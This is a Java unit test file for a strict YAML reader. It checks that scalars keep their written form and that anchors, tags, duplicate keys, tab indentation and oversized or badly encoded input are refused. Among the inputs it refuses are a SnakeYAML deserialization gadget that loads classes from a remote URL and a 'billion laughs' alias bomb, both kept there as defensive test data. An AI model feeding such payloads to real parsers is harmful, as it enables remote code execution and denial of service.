package dev.boltseal.registry.yaml;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.boltseal.base.failure.Failure;
import dev.boltseal.base.failure.FailureCode;
import dev.boltseal.base.json.CanonicalJson;
import dev.boltseal.base.json.JsonValue.JsonObject;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class YamlReaderTest {

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "1.10 | 1.10",
                "1.0.05221921 | \"1.0.05221921\"",
                "no | \"no\"",
                "yes | \"yes\"",
                "On | \"On\"",
                "true | true",
                "~ | null",
                "'' | null",
                "\"\" | \"\"",
                "0x10 | 16",
                "-5 | -5",
                "12:30:45 | \"12:30:45\"",
                "2020-01-01 | \"2020-01-01\"",
                "'\"010\"' | \"010\"",
                "1.0_beta | \"1.0_beta\"",
                "'[1, {b: c}]' | [1,{\"b\":\"c\"}]",
            })
    void keepsScalarsAsWritten(String yaml, String json) {
        assertThat(CanonicalJson.text(read("a: " + yaml))).isEqualTo("{\"a\":" + json + "}");
    }

    @Test
    void readsJson() {
        assertThat(CanonicalJson.text(read("{\"a\": {\"b\": [1.50, null]}}"))).isEqualTo("{\"a\":{\"b\":[1.50,null]}}");
    }

    @ParameterizedTest
    @ValueSource(strings = {"010", "1_000", "0b11", "0o17_7", "-007", "0x1_0"})
    void refusesNumbersThatYamlVersionsReadDifferently(String number) {
        if (number.startsWith("0o")) {
            assertThat(CanonicalJson.text(read("a: " + number))).isEqualTo("{\"a\":\"" + number + "\"}");
        } else {
            assertRefused("a: 1\nb: " + number, "app.yaml:2: want a number that every YAML reads the same");
        }
    }

    @Test
    void refusesAnchorsAliasesAndTagsWithTheirLine() {
        assertRefused("a: 1\nb: &x 2", "app.yaml:2: want values written out, got anchor &x");
        assertRefused("b: &x {c: 1}", "app.yaml:1: want values written out, got anchor &x");
        assertRefused("&x b: 1", "app.yaml:1: want values written out, got anchor &x");
        assertRefused("&x\nb: 1", "app.yaml:1: want values written out, got anchor &x");
        assertRefused("b: [1,\n *x]", "app.yaml:2: want values written out, got alias *x");
        assertRefused("a: 1\n? *x\n: 1", "app.yaml:2: want values written out, got alias *x");
        assertRefused("<<: *x", "app.yaml:1: want values written out, got alias *x");
        assertRefused("a: !!int 3", "app.yaml:1: want values without tags, got tag:yaml.org,2002:int");
        assertRefused("!foo a: 3", "app.yaml:1: want values without tags, got !foo");
        assertRefused("a: !foo []", "app.yaml:1: want values without tags, got !foo");
    }

    @Test
    void refusesToConstructObjects() {
        assertRefused(
                "a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]",
                "app.yaml:1: want values without tags");
    }

    @Test
    void refusesBillionLaughs() {
        var yaml = new StringBuilder("a0: &a0 [lol]\n");
        for (int i = 1; i < 10; i++) {
            yaml.append("a%d: &a%d [%s]\n"
                    .formatted(i, i, ("*a" + (i - 1) + ",").repeat(9).replaceAll(",$", "")));
        }

        assertRefused(yaml.toString(), "app.yaml:1: want values written out");
    }

    @Test
    void refusesDuplicateKeys() {
        assertRefused("a: 1\nb: 2\na: 3", "app.yaml:3: want strict YAML, got \"Duplicate");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"a: 1\n---\nb: 2", "a: 1\n---\n", "[1]", "a", "", "# nothing", "a: [", "a: 1\n b: 2", "\tb: 1"})
    void refusesWhatIsNotOneMap(String yaml) {
        assertThatThrownBy(() -> read(yaml))
                .isInstanceOf(Failure.class)
                .hasMessageStartingWith("app.yaml")
                .hasMessageContaining(": want ");
    }

    @ParameterizedTest
    @ValueSource(strings = {".inf", "-.INF", ".nan", "1e999"})
    void refusesNumbersThatJsonLacks(String number) {
        assertThatThrownBy(() -> read("a: " + number)).isInstanceOf(Failure.class);
    }

    @Test
    void capsDepth() {
        assertThat(read("a: " + "[".repeat(14) + "]".repeat(14)).fields()).hasSize(1);
        assertRefused("a: " + "[".repeat(15) + "]".repeat(15), "app.yaml");
        assertRefused("a: " + "[".repeat(100_000), "app.yaml");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "a:\t1 | {\"a\":1}",
                "a:\t\t1 | {\"a\":1}",
                "a: [1,\t2\t,3] | {\"a\":[1,2,3]}",
                "a:\t# nothing | {\"a\":null}",
                "\"a\"\t: 1 | {\"a\":1}",
                "a:\t'x\ty' | {\"a\":\"x\\ty\"}",
            })
    void takesTabsThatSeparate(String yaml, String json) {
        assertThat(CanonicalJson.text(read(yaml))).isEqualTo(json);
    }

    @Test
    void takesJsonAsOtherProgramsWriteIt() {
        assertThat(CanonicalJson.text(read("{\n\t\"a\": \"http:\\/\\/b\",\n\t\"c\": {\n\t\t\"d\":\t[\n\t]}\n}\n")))
                .isEqualTo("{\"a\":\"http://b\",\"c\":{\"d\":[]}}");
    }

    @ParameterizedTest
    @ValueSource(strings = {"\ta: 1", "a:\n\tb: 1", "a:\n  b: 1\n\tc: 2"})
    void refusesTabsThatIndent(String yaml) {
        assertRefused(yaml, "app.yaml:");
    }

    @Test
    void namesTheLineBehindTabs() {
        assertRefused("a:\t1\nb:\t&x 2", "app.yaml:2: want values written out, got anchor &x");
    }

    @Test
    void givesUpOnATextThatIsNothingButTabs() {
        assertRefused("a: [" + "1,\t".repeat(50_000), "app.yaml");
    }

    @Test
    void capsSize() {
        assertRefused("a: " + "x".repeat(YamlReader.MAX_BYTES), "app.yaml: want at most 1048576 bytes");
    }

    @Test
    void refusesOtherEncodings() {
        assertThatThrownBy(() -> new YamlReader("app.yaml", FailureCode.CATALOG_INVALID)
                        .read(new byte[] {'a', ':', ' ', (byte) 0xff}))
                .hasMessage("app.yaml: want UTF-8, got bytes that are not");
        assertRefused("a: \u001b[2J", "app.yaml");
    }

    @Test
    void saysWhichFileCannotBeRead() {
        assertThatThrownBy(() -> YamlReader.read(Path.of("/nowhere/app.yaml"), FailureCode.CATALOG_INVALID))
                .isInstanceOfSatisfying(Failure.class, e -> assertThat(e.code()).isEqualTo(FailureCode.FILE_UNREADABLE))
                .hasMessageStartingWith("can't read /nowhere/app.yaml: no such file");
    }

    private static JsonObject read(String yaml) {
        return new YamlReader("app.yaml", FailureCode.CATALOG_INVALID).read(yaml.getBytes(StandardCharsets.UTF_8));
    }

    private static void assertRefused(String yaml, String message) {
        assertThatThrownBy(() -> read(yaml))
                .isInstanceOfSatisfying(Failure.class, e -> assertThat(e.code()).isEqualTo(FailureCode.CATALOG_INVALID))
                .hasMessageStartingWith(message);
    }
}
